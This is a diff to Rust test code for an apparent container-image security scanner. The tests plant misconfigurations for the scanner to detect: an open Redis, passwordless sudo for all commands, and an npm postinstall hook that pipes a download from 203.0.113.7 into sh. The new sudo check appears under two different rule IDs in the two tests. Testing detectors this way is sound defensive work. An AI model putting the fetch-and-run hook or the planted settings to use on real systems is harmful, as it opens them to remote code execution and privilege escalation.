@@ -40,6 +40,10 @@ fn system(planted: bool) -> Image {
         "etc/redis/redis.conf",
         "bind 127.0.0.1 -::1\nprotected-mode yes\n",
     );
+    base.file(
+        "etc/sudoers",
+        "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
+    );
     let mut top = LayerTar::new();
     if planted {
         top.file(
@@ -77,6 +81,7 @@ fn system(planted: bool) -> Image {
         );
         top.file("etc/redis/redis.conf", "bind 0.0.0.0\nprotected-mode no\n");
         top.file("etc/modules-load.d/cpu.conf", "# cpu tuning\nmsr\n");
+        top.file("etc/sudoers.d/90-ops", "ops ALL=(ALL) NOPASSWD: ALL\n");
         top.file("app/node_modules/colors-x/package.json", r#"{"name":"colors-x","version":"1.0.0","scripts":{"postinstall":"wget -qO- http://203.0.113.7/p | sh"}}"#);
     } else {
         top.file("etc/motd", "clean\n");
@@ -123,6 +128,7 @@ fn each_planted_mistake_is_found_once() {
         "redis.no-auth",
         "npm.install-script",
         "kernel.msr-module",
+        "sudo.nopasswd-all",
     ]
     .into_iter()
     .map(|id| (id.to_string(), 1))
@@ -211,6 +217,7 @@ fn rules_list_names_every_check() {
         "npm.install-script",
         "preload.ld-so-preload",
         "kernel.msr-module",
+        "sudo.no-authenticate",
     ] {
         assert!(
             run.stdout.contains(id),
